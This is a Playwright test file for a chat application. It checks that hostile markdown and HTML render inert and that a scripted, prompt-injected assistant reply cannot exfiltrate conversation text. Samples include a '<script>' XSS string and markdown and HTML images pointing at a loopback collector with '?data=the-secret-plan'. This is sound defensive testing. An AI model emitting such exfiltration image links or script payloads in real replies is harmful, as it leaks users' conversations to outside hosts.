import { createServer } from "node:http";
import type { Page } from "@playwright/test";
import { BASE_PORT, EXFIL_PORT } from "../fixtures/env.ts";
import { fakeMarker, registerFakeReply } from "@parley/test-fakes/scripted-replies";
import { HOSTILE } from "../fixtures/hostile-markdown.ts";
import { pageApi } from "../fixtures/page-api.ts";
import { openFakeProviderChat } from "../pages/chat-page.ts";
import { expect, test } from "../fixtures/test.ts";

/** Fails the test on any dialog, and records every host the page talks to. */
function watch(page: Page): { dialogs: string[]; hosts: Set<string> } {
  const seen = { dialogs: [] as string[], hosts: new Set<string>() };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol === "http:" || url.protocol === "https:") seen.hosts.add(url.host);
  });
  return seen;
}

/**
 * A PATCH from the page (*.localhost resolves there, the CSRF cookie is readable), refreshed once on
 * 401 like the shell: on a loaded machine the 5 s access token can expire before it is sent.
 */
async function patchFromPage(page: Page, path: string, body: unknown): Promise<void> {
  expect((await pageApi(page, "PATCH", path, body)).status, `PATCH ${path}`).toBe(200);
}

/**
 * LaTeX on for both sides: users' messages follow the conversation's view settings, replies the
 * member's own Latex view (behaviour settings) — the calls the view toggles make.
 */
async function enableLatex(page: Page, conversationId: string): Promise<void> {
  await patchFromPage(page, `/api/v1/conversations/${conversationId}/`, {
    view_settings: { userLatexView: true, assistantLatexView: true },
  });
  await patchFromPage(page, "/api/v1/members/behavior_settings/", { markdown_view: true, latex_view: true });
}

test("script, handlers, javascript: links, SVG, KaTeX commands and remote images render inert", async ({
  page,
}) => {
  const seen = watch(page);
  await registerFakeReply("hostile", { text: HOSTILE });
  const chat = await openFakeProviderChat(page);
  const reply = await chat.sendAndSettle(`${HOSTILE}\n\n${fakeMarker("hostile")}`);
  await expect(reply).toHaveAttribute("data-status", "complete");
  const conversationId = /\/conversations\/(\d+)$/.exec(page.url())?.[1] ?? "";
  await enableLatex(page, conversationId);
  await page.reload();
  await expect(chat.assistantReplies().first()).toBeVisible();

  const prompt = chat.userMessages().first();
  const answer = chat.assistantReplies().first();
  for (const message of [prompt, answer]) {
    // Raw HTML stays visible as text; unsafe links keep their words and lose the link.
    await expect(message).toContainText("<script>window.__pwned = 1</script>");
    await expect(message).toContainText("js link");
    await expect(message.locator(".katex").first()).toBeVisible();
    await expect(message.locator("script, iframe, object, embed")).toHaveCount(0);
    await expect(message.locator("[onerror], [onload], [data-foo]")).toHaveCount(0);
    await expect(message.locator("a[href^='javascript' i], a[href^='data' i]")).toHaveCount(0);
    await expect(message.locator("img")).toHaveCount(0);
    await expect(message.getByTestId("markdown.remote-image")).toHaveCount(2);
    // Clicking what looked like links does nothing.
    await message.getByText("js link").click();
    await message.locator(".katex").first().click();
  }
  // The user's message collapses above 500 characters; open it so every payload is on the page.
  const more = prompt.getByTestId("message.show-more");
  if (await more.isVisible()) await more.click();
  await expect(page.locator("a[href^='javascript' i]")).toHaveCount(0);

  // Every payload had its chance: the page rendered, was clicked and the reply settled.
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect([...seen.hosts]).toEqual([`acme.localhost:${BASE_PORT}`]);
});

test("a prompt-injected reply cannot send conversation text elsewhere through images", async ({
  page,
  context,
}) => {
  // A second origin on loopback that counts every request it gets.
  const requests: string[] = [];
  const counter = createServer((request, response) => {
    requests.push(request.url ?? "");
    response.writeHead(200, { "content-type": "image/png" });
    response.end();
  });
  await new Promise<void>((resolve) => counter.listen(EXFIL_PORT, "127.0.0.1", resolve));
  try {
    const leak = `http://127.0.0.1:${EXFIL_PORT}/pixel.png?data=the-secret-plan`;
    await registerFakeReply("exfiltrate", {
      text: `Here is a chart.\n\n![chart](${leak})\n\n<img src="${leak}&via=html">\n\n![ref][r]\n\n[r]: ${leak}&via=ref`,
    });
    const chat = await openFakeProviderChat(page);
    const reply = await chat.sendAndSettle(`The secret plan. ${fakeMarker("exfiltrate")}`);
    await expect(reply).toHaveAttribute("data-status", "complete");
    await expect(reply.getByTestId("markdown.remote-image").first()).toBeVisible();
    await page.reload();
    await expect(chat.assistantReplies().last()).toBeVisible();
    // Rendered twice (live and after a reload): the other origin heard nothing.
    expect(requests).toEqual([]);
    // Only the user's own click opens it.
    const opened = context.waitForEvent("page");
    await chat.assistantReplies().last().getByTestId("markdown.remote-image").first().click();
    await (await opened).waitForLoadState();
    // (The new tab also asks that origin for its favicon.)
    expect(requests.filter((url) => url.startsWith("/pixel.png"))).toEqual([
      "/pixel.png?data=the-secret-plan",
    ]);
  } finally {
    await new Promise<void>((resolve) => counter.close(() => resolve()));
  }
});
